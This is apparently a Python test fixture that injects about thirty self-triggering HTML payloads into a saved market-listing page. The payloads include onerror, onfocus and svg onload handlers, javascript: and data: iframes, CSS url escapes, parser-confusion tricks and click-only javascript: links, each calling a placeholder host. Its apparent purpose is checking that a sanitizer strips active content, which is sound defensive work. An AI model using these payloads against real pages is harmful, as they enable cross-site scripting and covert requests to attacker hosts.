"""A page that acts by itself when a browser opens it, in each of the ways in which one can."""

from __future__ import annotations

from pathlib import Path
from urllib.parse import quote

__all__ = ["ACTIVE", "active_page"]

_HOST = "http://h.invalid"
_PAGE = Path(__file__).parents[2] / "fixtures" / "pages" / "dream" / "listing" / "weed_from_belgium" / "body.html"


def _script(name: str) -> str:
    return f"fetch('{_HOST}/{name}')"


def _nested(name: str) -> str:
    return f"<script>{_script(name)}</script>"


ACTIVE = {
    "type": f'<!DOCTYPE html PUBLIC "><img src={_HOST}/type>">',
    "script": _nested("script"),
    "error": f'<img src="x:" onerror="{_script("error")}">',
    "slashes": f'<img/src="x:"/onerror="{_script("slashes")}">',
    "focus": f'<input autofocus onfocus="{_script("focus")}">',
    "toggle": f'<details open ontoggle="{_script("toggle")}">x</details>',
    "drawing": f'<svg onload="{_script("drawing")}"></svg>',
    "animation": f'<svg><set attributeName="x" begin="0s" onbegin="{_script("animation")}"/></svg>',
    "image": f'<img src="{_HOST}/image">',
    "encrypted": '<img src="https://h.invalid/encrypted">',
    "broken": '<img src=" ht\ntp:/\\h.invalid/broken">',
    "set": f'<img srcset="{_HOST}/set 1x">',
    "button": f'<input type="image" src="{_HOST}/button">',
    "background": f'<table background="{_HOST}/background"><tr><td>x</td></tr></table>',
    "poster": f'<video poster="{_HOST}/poster"></video>',
    "link": f'<link rel="stylesheet" href="{_HOST}/link">',
    "style": f'<p style="background: url({_HOST}/style)">x</p>',
    "escape": f'<p style="background: \\75rl({_HOST}/escape)">x</p>',
    "sheet": f'<style>@import "{_HOST}/sheet";</style>',
    "frame": f'<iframe src="{_HOST}/frame"></iframe>',
    "document": f'<iframe srcdoc="{_nested("document")}"></iframe>',
    "data": f'<iframe src="data:text/html,{quote(_nested("data"))}"></iframe>',
    "address": f'<iframe src="javascript:{_script("address")}"></iframe>',
    "object": f'<object data="{_HOST}/object"></object>',
    "embed": f'<embed src="{_HOST}/embed">',
    "base": f'<base href="{_HOST}/base/"><img src="picture">',
    "comment": f'<!--><img src="x:" onerror="{_script("comment")}">-->',
    "hidden": f'<noscript><p title="</noscript><img src=x: onerror={_script("hidden")}>"></p></noscript>',
    "raw": f'<xmp><p title="</xmp><img src=x: onerror={_script("raw")}>"></p></xmp>',
    "refresh": f'<meta http-equiv="refresh" content="2; url={_HOST}/refresh">',
}
"""Markup by the name that it requests; what is encrypted hides it."""
_STILL = """
<a href="javascript:alert(1)">x</a> <a href=" jav&#9;ascript:alert(1)">x</a> <a href="DATA:text/html,x">x</a>
<form action="javascript:alert(1)"><button formaction="javascript:alert(1)">x</button></form>
<b class="\x1b$B" title="&#27;(J">\x1b$B</b>
"""
"""What acts only when somebody clicks."""


def active_page() -> bytes:
    """A page of a listing with all of it."""
    body = _PAGE.read_text(encoding="utf-8")
    assert "</body>" in body
    first, *others = ACTIVE.values()
    return (first + body.replace("</body>", f"{_STILL}{''.join(others)}</body>")).encode()
